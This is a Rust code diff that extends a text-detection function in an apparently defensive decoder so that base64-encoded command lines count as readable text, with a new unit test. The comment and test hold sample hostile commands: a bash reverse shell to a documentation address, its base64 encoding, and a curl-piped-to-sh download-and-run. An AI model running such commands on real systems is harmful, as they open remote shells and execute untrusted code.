@@ -104,7 +104,10 @@ pub struct Decoded {
     pub offsets: Offsets,
 }
 
-/// Whether decoded bytes read as text (not random binary).
+/// Whether decoded bytes read as text (not random binary): prose (at least half letters,
+/// nine tenths printable), or a command line, which is mostly signs, digits and paths
+/// (`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` is a quarter letters) but, unlike random
+/// bytes, nothing but printable ASCII.
 pub fn looks_like_text(s: &str) -> bool {
     let mut letters = 0usize;
     let mut good = 0usize;
@@ -118,8 +121,14 @@ pub fn looks_like_text(s: &str) -> bool {
             good += 1;
         }
     }
-    total >= 4 && letters * 2 >= total && good * 100 >= total * 90
+    let prose = total >= 4 && letters * 2 >= total && good * 100 >= total * 90;
+    let command = total >= COMMAND_MIN && letters * 4 >= total && good == total && s.is_ascii();
+    prose || command
 }
+
+/// Shortest decoded command line read as text (see [`looks_like_text`]): twelve random bytes
+/// are all printable ASCII or white space about once in 100,000 draws ((98/256)^12).
+const COMMAND_MIN: usize = 12;
 
 fn b64_engine(url: bool) -> GeneralPurpose {
     let config = GeneralPurposeConfig::new()
@@ -1019,6 +1028,22 @@ mod tests {
             Some("ignore this please")
         );
         assert!(decode_hex("e8b5ab526e16569f1d68ca4bd4dc8db174423e1c").is_none());
+    }
+
+    /// A command line is mostly signs, digits and paths: a base64 reverse shell or
+    /// download-and-run decodes to text, though under half of it is letters; bytes outside
+    /// printable ASCII still do not.
+    #[test]
+    fn an_encoded_command_line_decodes_to_text() {
+        let shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+        assert!(looks_like_text(shell));
+        assert_eq!(
+            decode_base64("YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE=").as_deref(),
+            Some(shell)
+        );
+        assert!(looks_like_text("curl -s http://192.0.2.77/s.sh | sh"));
+        assert!(!looks_like_text("12/34 56:78 {9} 0.1"));
+        assert!(!looks_like_text("ab\u{1}cd >& /dev/tcp/1.2.3.4/5 0>&1"));
     }
 
     #[test]
